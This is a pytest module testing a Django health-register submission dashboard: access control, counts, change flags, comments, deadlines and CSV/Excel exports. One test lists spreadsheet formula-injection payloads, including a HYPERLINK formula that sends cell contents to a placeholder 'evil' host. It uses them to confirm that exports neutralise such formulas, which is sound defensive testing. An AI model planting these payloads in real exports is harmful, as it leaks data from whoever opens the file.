"""The submitter's daily view ("Mottatte data"): who sees it, the numbers, flags and comments, what is missing,
deadline completeness, filters with and without htmx, downloads, and the number of queries."""

from __future__ import annotations

import csv
import datetime
import io
import re

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from submissions.daily_view import change_flag
from submissions.models import ChangeComment, Extension, SnapshotRun
from submissions.snapshot import snapshot_rebuild
from tests.conftest import client_for
from tests.factories import AcceptedSubmissionFactory, DeadlineFactory, MembershipFactory, UserFactory
from tests.submissions.conftest import YEAR, kpr_record, npr_record
from tests.submissions.snapshot_support import receive

pytestmark = pytest.mark.django_db


def url(submitter, **query) -> str:
    base = reverse("submissions:daily:submitter", kwargs={"submitter_id": submitter.pk})
    return base + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


def cells(html: str, table: str, row_attribute: str, row: str) -> dict[str, str]:
    """The data-* cells of one row of a table, as text."""
    table_html = re.search(rf'data-table="{table}".*?</table>', html, re.S).group(0)
    row_html = re.search(rf'<tr {row_attribute}="{re.escape(row)}".*?</tr>', table_html, re.S).group(0)
    return {
        name: re.sub(r"<[^>]+>|\s+", " ", value).strip()
        for name, value in re.findall(r"<td[^>]*data-([a-z-]+)[^>]*>(.*?)</td>", row_html, re.S)
    }


@pytest.fixture
def safety_alarm_history(world):
    """The municipality: 12 users of safety alarms (6) last year and none this year; home care (10) steady."""
    last, this = YEAR - 1, YEAR
    records = [
        kpr_record(f"a{n}", patient_ref=f"p{n}", service_code="6", event_date=f"{last}-03-0{1 + n % 9}")
        for n in range(12)
    ]
    records += [kpr_record(f"h{n}", patient_ref=f"h{n}", event_date=f"{last}-05-10") for n in range(5)]
    receive(world.municipality, records)
    receive(
        world.municipality, [kpr_record(f"t{n}", patient_ref=f"h{n}", event_date=f"{this}-05-1{n}") for n in range(5)]
    )
    receive(world.municipality, [kpr_record("t-jan", patient_ref="h1", event_date=f"{this}-01-20")])
    snapshot_rebuild()


# -- who sees it ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("actor", "status"),
    [
        ("municipality_user", 200),
        ("vendor_user", 200),
        ("staff_user", 200),
        ("specialist_user", 404),
        ("outsider", 404),
    ],
)
def test_the_municipalitys_view_is_for_those_who_may_see_it(world, actor, status):
    response = client_for(getattr(world, actor)).get(url(world.municipality))
    assert response.status_code == status


def test_other_tenants_downloads_and_comments_are_404(world, safety_alarm_history):
    client = client_for(world.specialist_user)
    for table in ("maaneder", "kategorier", "frister", "innsendinger"):
        download = reverse(
            "submissions:daily:submitter_download",
            kwargs={"submitter_id": world.municipality.pk, "table": table, "extension": "csv"},
        )
        assert client.get(download).status_code == 404
    comment = reverse("submissions:daily:comment", kwargs={"submitter_id": world.municipality.pk})
    response = client.post(comment, {"register": "KPR", "aar": YEAR, "kategori": "service_code:6", "text": "x"})
    assert response.status_code == 404
    assert not ChangeComment.objects.exists()


def test_anonymous_users_are_sent_to_sign_in(client, world):
    response = client.get(url(world.municipality))
    assert response.status_code == 302 and "/logg-inn/" in response["Location"]


# -- the numbers ---------------------------------------------------------------------------------


def test_months_show_records_and_distinct_users_beside_last_year(world, safety_alarm_history):
    html = client_for(world.municipality_user).get(url(world.municipality, register="KPR", aar=YEAR)).content.decode()

    may = cells(html, "months", "data-month", "5")
    assert (may["records"], may["users"], may["previous-records"], may["previous-users"]) == ("5", "5", "5", "5")
    march = cells(html, "months", "data-month", "3")
    assert (march["records"], march["previous-records"], march["previous-users"]) == ("0", "12", "12")
    total = cells(html, "months", "data-month", "total")
    # Six records this year by five users (h1 twice): users are counted once over the year.
    assert (total["records"], total["users"], total["previous-records"], total["previous-users"]) == (
        "6",
        "5",
        "17",
        "17",
    )
    assert "Mottatte data" in html


def test_a_vanished_category_is_flagged_and_listed_as_missing(world, safety_alarm_history):
    html = client_for(world.municipality_user).get(url(world.municipality, aar=YEAR)).content.decode()
    alarm = cells(html, "service_code", "data-category", "service_code:6")
    assert alarm["users"] == "0" and alarm["previous-users"] == "12"
    assert 'data-category="service_code:6" data-flag="vanished"' in html
    assert 'data-category="service_code:10" data-flag=""' in html
    assert 'data-missing="category" data-category="service_code:6"' in html
    # A past year: every month without data is missing.
    assert 'data-missing="months"' in html


def test_the_category_filter_shows_that_categorys_months_with_and_without_htmx(world, safety_alarm_history):
    client = client_for(world.municipality_user)
    page = client.get(url(world.municipality, register="KPR", aar=YEAR, kategori="service_code:6")).content.decode()
    assert cells(page, "months", "data-month", "3")["previous-users"] == "12"
    assert '<option value="service_code:6" selected>' in page
    fragment = client.get(
        url(world.municipality, register="KPR", aar=YEAR, kategori="service_code:6"),
        HTTP_HX_REQUEST="true",
        HTTP_HX_TARGET="daily-results",
    ).content.decode()
    assert "<html" not in fragment and 'data-table="months"' in fragment
    assert cells(fragment, "months", "data-month", "3")["previous-users"] == "12"


def test_the_filter_form_works_without_javascript(world, safety_alarm_history):
    html = client_for(world.municipality_user).get(url(world.municipality)).content.decode()
    form = re.search(r'<form method="get"[^>]*hx-get[^>]*>', html).group(0)
    assert f'action="{url(world.municipality)}"' in form
    assert re.search(r'<button type="submit"', html)


def test_npr_is_shown_by_contact_kind_and_icd_chapter(world):
    receive(
        world.specialist,
        [
            npr_record("a", patient_ref="p1"),
            npr_record("b", patient_ref="p2", contact_kind="admission", condition_codes=["J45"]),
        ],
    )
    snapshot_rebuild()
    html = client_for(world.specialist_user).get(url(world.specialist, aar=YEAR)).content.decode()
    assert cells(html, "contact_kind", "data-category", "contact_kind:outpatient")["users"] == "1"
    assert cells(html, "icd_chapter", "data-category", "icd_chapter:X")["users"] == "1"
    assert "Psykiske lidelser" in html  # ICD-10 chapter V by name


def test_every_page_says_when_the_numbers_were_updated(world, safety_alarm_history):
    run = SnapshotRun.objects.create(scope="all", status="done", as_of=timezone.now())
    html = client_for(world.municipality_user).get(url(world.municipality)).content.decode()
    assert re.search(r"data-as-of>\s*Tallene ble sist oppdatert", html)
    run.delete()
    html = client_for(world.municipality_user).get(url(world.municipality)).content.decode()
    assert re.search(r"data-as-of>\s*Tallene er ikke beregnet ennå", html)


def test_the_large_change_rule_follows_the_settings(settings):
    assert change_flag(12, 0) == "new"
    assert change_flag(0, 12) == "vanished"
    assert change_flag(9, 0) == ""  # fewer than 10 users
    assert change_flag(120, 100) == "increase"
    assert change_flag(119, 100) == ""  # 19 %
    assert change_flag(30, 50) == "decrease"
    settings.DAILY_VIEW_LARGE_CHANGE_PERCENT = 50
    assert change_flag(30, 50) == ""


# -- comments ------------------------------------------------------------------------------------


def comment_url(submitter) -> str:
    return reverse("submissions:daily:comment", kwargs={"submitter_id": submitter.pk})


def test_a_member_explains_a_flagged_change_and_staff_read_it(world, safety_alarm_history):
    member = client_for(world.municipality_user)
    html = member.get(url(world.municipality, aar=YEAR)).content.decode()
    assert html.count('name="kategori" value="service_code:6"') == 1  # the form is on the flagged line only

    data = {"register": "KPR", "aar": YEAR, "kategori": "service_code:6", "text": "Feil i uttrekket."}
    response = member.post(comment_url(world.municipality), data)
    assert response.status_code == 302
    member.post(comment_url(world.municipality), {**data, "text": "Feil i uttrekket; rettet i ny fil."})

    comments = list(ChangeComment.objects.order_by("created_at", "id"))
    assert [c.text for c in comments] == ["Feil i uttrekket.", "Feil i uttrekket; rettet i ny fil."]
    assert (comments[-1].author, comments[-1].users, comments[-1].previous_users) == (world.municipality_user, 0, 12)

    staff_html = client_for(world.staff_user).get(url(world.municipality, aar=YEAR)).content.decode()
    assert "Feil i uttrekket; rettet i ny fil." in staff_html
    assert (
        "Tidligere versjoner" in staff_html
        and "Feil i uttrekket.</p>" not in staff_html.split("Tidligere versjoner")[0][-200:]
    )
    assert 'name="kategori" value="service_code:6"' not in staff_html  # staff read, they don't explain


def test_a_comment_with_a_control_character_is_refused_and_kept_in_its_form(world, safety_alarm_history):
    member = client_for(world.municipality_user)
    text = "Feil i uttrekket.\nRettet\x07 i ny fil."
    data = {"register": "KPR", "aar": YEAR, "kategori": "service_code:6", "text": text}
    response = member.post(comment_url(world.municipality), data)
    assert response.status_code == 400
    assert not ChangeComment.objects.exists()
    html = response.content.decode()
    field = 'id="comment-service_code6"'
    assert html.count(field) == 1 and 'aria-describedby="comment-service_code6-error"' in html
    assert '<details class="comment-form" open>' in html
    assert "Feil i uttrekket.\nRettet\x07 i ny fil.</textarea>" in html  # nothing the member wrote is lost
    error = html.split('id="comment-service_code6-error">')[1].split("</div>")[0]
    assert "U+0007" in error and "linje 2" in error and "tegn 7" in error

    data["text"] = "Feil i uttrekket.\r\n\tRettet i ny fil."  # line breaks and tabs are text
    assert member.post(comment_url(world.municipality), data).status_code == 302
    assert ChangeComment.objects.get().text == "Feil i uttrekket.\r\n\tRettet i ny fil."


@pytest.mark.parametrize("actor", ["staff_user", "vendor_user"])
def test_staff_and_vendors_cannot_comment(world, safety_alarm_history, actor):
    data = {"register": "KPR", "aar": YEAR, "kategori": "service_code:6", "text": "Ikke vår sak."}
    assert client_for(getattr(world, actor)).post(comment_url(world.municipality), data).status_code == 404
    assert not ChangeComment.objects.exists()


def test_only_flagged_changes_take_comments(world, safety_alarm_history):
    data = {"register": "KPR", "aar": YEAR, "kategori": "service_code:10", "text": "Ingen endring."}
    response = client_for(world.municipality_user).post(comment_url(world.municipality), data, follow=True)
    assert not ChangeComment.objects.exists()
    assert "Bare store endringer" in response.content.decode()


# -- missing, the daily feed and deadlines --------------------------------------------------------


def test_a_silent_daily_feed_is_listed(world, settings):
    settings.DAILY_VIEW_SILENT_WORKING_DAYS = 3
    long_ago = timezone.now() - datetime.timedelta(days=14)
    receive(
        world.municipality,
        [kpr_record("x", event_date=(long_ago.date() - datetime.timedelta(days=1)).isoformat())],
        now=long_ago,
    )
    snapshot_rebuild()
    html = client_for(world.municipality_user).get(url(world.municipality)).content.decode()
    assert 'data-missing="daily"' in html


def test_deadline_completeness_for_each_status(world):
    """Four specialists, one deadline: on time, late, extended, with errors; the fifth only has a rejection."""
    deadline = DeadlineFactory(year=2030)
    cases = {}
    for name in ("on_time", "late", "extended", "with_errors", "rejected"):
        submitter = world.specialist if name == "on_time" else world.other_specialist
        if name != "on_time":
            from tests.factories import SubmitterFactory

            submitter = SubmitterFactory()
            MembershipFactory(user=world.specialist_user, submitter=submitter)
        cases[name] = submitter
    due = deadline.due_at
    for kind in ("activity", "ident"):
        AcceptedSubmissionFactory(submitter=cases["on_time"], kind=kind, received_at=due - datetime.timedelta(days=2))
        AcceptedSubmissionFactory(submitter=cases["late"], kind=kind, received_at=due + datetime.timedelta(days=2))
        AcceptedSubmissionFactory(submitter=cases["extended"], kind=kind, received_at=due + datetime.timedelta(days=2))
        AcceptedSubmissionFactory(
            submitter=cases["with_errors"],
            kind=kind,
            status="accepted_with_errors" if kind == "activity" else "accepted",
            received_at=due - datetime.timedelta(days=1),
        )
    AcceptedSubmissionFactory(
        submitter=cases["rejected"], status="rejected", received_at=due - datetime.timedelta(days=1)
    )
    Extension.objects.create(
        submitter=cases["extended"],
        deadline=deadline,
        status=Extension.Status.GRANTED,
        previous_date=deadline.due_date,
        requested_date=deadline.due_date + datetime.timedelta(days=10),
        granted_date=deadline.due_date + datetime.timedelta(days=10),
        justification="Nytt system.",
        requested_by=world.specialist_user,
        decided_by=world.staff_user,
        decided_at=timezone.now(),
    )
    expected = {
        "on_time": ("received", "on_time"),
        "late": ("received", "late"),
        "extended": ("received", "on_time_with_extension"),
        "with_errors": ("received_with_errors", "on_time"),
        "rejected": ("rejected", "not_received"),
    }
    client = client_for(world.specialist_user)
    for name, (receipt, timeliness) in expected.items():
        html = client.get(url(cases[name], register="NPR", aar=2030)).content.decode()
        row = re.search(rf'<tr data-deadline="{deadline.pk}"[^>]*>', html).group(0)
        assert f'data-receipt="{receipt}"' in row and f'data-timeliness="{timeliness}"' in row, name


def test_deadline_completeness_agrees_with_the_delivery_rule_for_random_messages(world):
    """The page marks each message with the deadlines it delivers in one query; every deadline's delivery must be
    what `accepted_delivery_at` (one query per deadline) says, over messages of every mode, kind and status."""
    import random

    from submissions.daily_view import deadline_completeness
    from submissions.selectors_deadlines import accepted_delivery_at

    rng = random.Random(4)
    deadlines = [
        DeadlineFactory(year=2030),
        DeadlineFactory(
            year=2030,
            period_start=datetime.date(2030, 5, 1),
            period_end=datetime.date(2030, 8, 31),
            due_date=datetime.date(2030, 9, 10),
        ),
        DeadlineFactory(
            year=2030,
            period_start=datetime.date(2030, 1, 1),
            period_end=datetime.date(2030, 12, 31),
            due_date=datetime.date(2031, 1, 10),
            message_kinds=["activity"],
        ),
    ]
    outcomes = set()
    for trial in range(16):
        from tests.factories import SubmitterFactory

        submitter = SubmitterFactory(kind="contract_specialist", reports_npr=True)
        for _ in range(rng.randint(0, 12)):
            start = datetime.date(2030, rng.choice([1, 5, 9]), 1)
            received = deadlines[0].due_at + datetime.timedelta(days=rng.randint(-150, 260), hours=rng.randint(0, 23))
            AcceptedSubmissionFactory(
                submitter=submitter,
                kind=rng.choice(["activity", "ident"]),
                mode=rng.choice(["full", "change"]),
                status=rng.choice(["accepted", "accepted_with_errors", "rejected"]),
                validate_only=rng.random() < 0.1,
                period_start=start,
                period_end=rng.choice(
                    [datetime.date(2030, 4, 30), datetime.date(2030, 8, 31), datetime.date(2030, 12, 31)]
                ),
                received_at=received,
            )
        rows = {row.deadline.pk: row for row in deadline_completeness(submitter=submitter, register="NPR", year=2030)}
        assert set(rows) == {deadline.pk for deadline in deadlines}
        for deadline in deadlines:
            expected = accepted_delivery_at(submitter=submitter, deadline=deadline)
            assert rows[deadline.pk].delivered_at == expected, (trial, deadline.pk)
            assert rows[deadline.pk].receipt == _expected_receipt(submitter, deadline, expected), (trial, deadline.pk)
            outcomes.add((rows[deadline.pk].receipt, str(rows[deadline.pk].timeliness)))
    assert len(outcomes) >= 5, outcomes  # the random messages reach several receipts and timelinesses


def _expected_receipt(submitter, deadline, delivered_at) -> str:
    """The receipt by its definition, one deadline at a time: of each kind, the newest delivering message up to the
    delivery; received with errors if one of them was; if not delivered, rejected if a message for the period was."""
    from submissions.daily_view import _refused_condition
    from submissions.deadlines import delivery_condition, effective_deadline
    from submissions.models import Submission

    if delivered_at is None:
        refused = Submission.objects.filter(_refused_condition(deadline), submitter=submitter).exists()
        return "rejected" if refused else "not_received"
    due_at = effective_deadline(submitter=submitter, deadline=deadline).due_at
    delivering = Submission.objects.filter(delivery_condition(deadline, due_at), submitter=submitter)
    statuses = set()
    for kind in deadline.message_kinds:
        newest = delivering.filter(kind=kind, received_at__lte=delivered_at).order_by("-received_at", "-id").first()
        statuses.add(newest.status)
    return "received_with_errors" if "accepted_with_errors" in statuses else "received"


# -- downloads -----------------------------------------------------------------------------------


def download(client, submitter, table, extension, **query):
    path = reverse(
        "submissions:daily:submitter_download",
        kwargs={"submitter_id": submitter.pk, "table": table, "extension": extension},
    )
    return client.get(path, query)


def test_tables_download_as_csv_and_excel_with_a_neutral_name(world, safety_alarm_history):
    client = client_for(world.municipality_user)
    response = download(client, world.municipality, "kategorier", "csv", register="KPR", aar=YEAR)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"mottatte-data-{world.municipality.pk}-KPR-{YEAR}-kategorier.csv" in disposition
    assert "Oslo" not in disposition
    text = response.content.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Inndeling;Kode;Kategori")
    assert any(line.startswith("Tjenestekode;6;6 Trygghetsalarm;0;0;12;12;-12") for line in text.splitlines())

    workbook = load_workbook(io.BytesIO(download(client, world.municipality, "maaneder", "xlsx", aar=YEAR).content))
    rows = list(workbook.active.iter_rows(values_only=True))
    assert rows[0][:7] == ("År", "Måned", "Inndeling", "Kode", "Kategori", "Poster", "Distinkte brukere")
    assert (YEAR - 1, 3, "Tjenestekode", "6", "6 Trygghetsalarm", 12, 12) in [row[:7] for row in rows]


@pytest.mark.parametrize("table", ["maaneder", "kategorier", "frister", "innsendinger"])
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_every_table_downloads(world, safety_alarm_history, table, extension):
    response = download(client_for(world.municipality_user), world.municipality, table, extension)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")


def test_an_unknown_table_or_format_is_404(world):
    client = client_for(world.municipality_user)
    assert download(client, world.municipality, "pasienter", "csv").status_code == 404
    assert download(client, world.municipality, "maaneder", "pdf").status_code == 404


# -- refresh -------------------------------------------------------------------------------------


def test_staff_refresh_one_submitter_and_others_cannot(world, django_capture_on_commit_callbacks, monkeypatch):
    from submissions import tasks

    queued = []
    monkeypatch.setattr(tasks.refresh_snapshot, "delay", queued.append)
    refresh = reverse("submissions:daily:refresh_submitter", kwargs={"submitter_id": world.municipality.pk})
    assert client_for(world.municipality_user).post(refresh).status_code == 404
    with django_capture_on_commit_callbacks(execute=True):
        response = client_for(world.staff_user).post(refresh)
    assert response.status_code == 302
    run = SnapshotRun.objects.get()
    assert (run.scope, run.submitter, run.status, run.requested_by) == (
        "submitter",
        world.municipality,
        "pending",
        world.staff_user,
    )
    assert queued == [run.pk]


# -- queries -------------------------------------------------------------------------------------


def test_the_page_takes_a_fixed_number_of_queries(world, safety_alarm_history, django_assert_max_num_queries):
    """More categories, months, comments and submissions do not add queries."""
    member = client_for(world.municipality_user)
    member.get(url(world.municipality))  # warm the session
    data = {"register": "KPR", "aar": YEAR, "kategori": "service_code:6", "text": "Forklaring."}
    for _ in range(3):
        member.post(comment_url(world.municipality), data)
    receive(
        world.municipality, [kpr_record(f"m{n}", service_code=str(n), patient_ref=f"m{n}") for n in (1, 2, 4, 7, 8, 9)]
    )
    snapshot_rebuild()
    # session, user, submitter, snapshot years, months, comments, as-of run, daily feed (2), deadlines,
    # extensions, 2 for the year's one KPR deadline, submissions, membership.
    with django_assert_max_num_queries(15):
        response = member.get(url(world.municipality, aar=YEAR))
    assert response.status_code == 200


def test_the_page_takes_a_fixed_number_of_queries_with_deadlines(world, django_assert_max_num_queries):
    """The deadlines' completeness is one query for the messages, however many deadlines the year has."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    AcceptedSubmissionFactory(submitter=world.specialist, received_at=timezone.now())
    client = client_for(world.specialist_user)
    client.get(url(world.specialist))
    counts, made = [], []
    for period_end, due in ((datetime.date(2030, 4, 30), 10), (datetime.date(2030, 8, 31), 9), (None, 0)):
        if period_end:
            made.append(DeadlineFactory(year=2030, period_end=period_end, due_date=datetime.date(2030, due, 10)))
        else:
            for month in (10, 11):
                made.append(
                    DeadlineFactory(
                        year=2030, period_end=datetime.date(2030, month, 1), due_date=datetime.date(2030, month, 20)
                    )
                )
        with CaptureQueriesContext(connection) as queries:
            html = client.get(url(world.specialist, register="NPR", aar=2030)).content.decode()
        counts.append(len(queries))
        assert [f'<tr data-deadline="{d.pk}"' in html for d in made] == [True] * len(made)
    assert counts[0] == counts[1] == counts[2], counts  # 1, 2 and 4 deadlines
    # The fixed part of the page above, the deadlines, their extensions and their messages.
    with django_assert_max_num_queries(15):
        assert client.get(url(world.specialist, register="NPR", aar=2030)).status_code == 200


def test_a_new_member_is_not_other_tenants_member(world, safety_alarm_history):
    newcomer = UserFactory()
    MembershipFactory(user=newcomer, submitter=world.specialist)
    assert client_for(newcomer).get(url(world.municipality)).status_code == 404


HOSTILE = ["=1+1", "+cmd", "@SUM(A1)", "-2+3", '=HYPERLINK("http://evil/?"&A1,"klikk")', "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_comment_is_never_a_formula_in_the_downloads(world, safety_alarm_history, text):
    """A municipality user's comment is text in the Excel file (as written: a text cell is inert) and gets a
    leading quote in the CSV (OWASP); the counts and percentages beside it are numbers in both."""
    ChangeComment.objects.create(
        submitter=world.municipality,
        register="KPR",
        year=YEAR,
        dimension="service_code",
        category="6",
        text=text,
        author=world.municipality_user,
    )
    client = client_for(world.municipality_user)
    response = download(client, world.municipality, "kategorier", "csv", register="KPR", aar=YEAR)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    (line,) = [row for row in rows if row[:2] == ["Tjenestekode", "6"]]
    assert line[3:] == ["0", "0", "12", "12", "-12", "-100,0", "Forsvunnet", "'" + text]

    response = download(client, world.municipality, "kategorier", "xlsx", register="KPR", aar=YEAR)
    sheet = load_workbook(io.BytesIO(response.content)).active
    (line,) = [row for row in sheet.iter_rows(min_row=2) if (row[0].value, row[1].value) == ("Tjenestekode", "6")]
    numbers = [(c.value, c.data_type) for c in line[3:9]]
    assert numbers == [(0, "n"), (0, "n"), (12, "n"), (12, "n"), (-12, "n"), (-100.0, "n")]
    assert (line[10].value, line[10].data_type) == (text, "s")


def test_a_comment_with_control_characters_still_downloads(world, safety_alarm_history):
    """xlsx cannot hold control characters (openpyxl refuses the file): they become U+FFFD in the sheet only."""
    ChangeComment.objects.create(
        submitter=world.municipality,
        register="KPR",
        year=YEAR,
        dimension="service_code",
        category="6",
        text="Ny\x07 praksis\x1b",
        author=world.municipality_user,
    )
    client = client_for(world.municipality_user)
    response = download(client, world.municipality, "kategorier", "xlsx", register="KPR", aar=YEAR)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    (line,) = [row for row in sheet.iter_rows(min_row=2) if (row[0].value, row[1].value) == ("Tjenestekode", "6")]
    assert line[10].value == "Ny\ufffd praksis\ufffd"
    assert ChangeComment.objects.get().text == "Ny\x07 praksis\x1b"
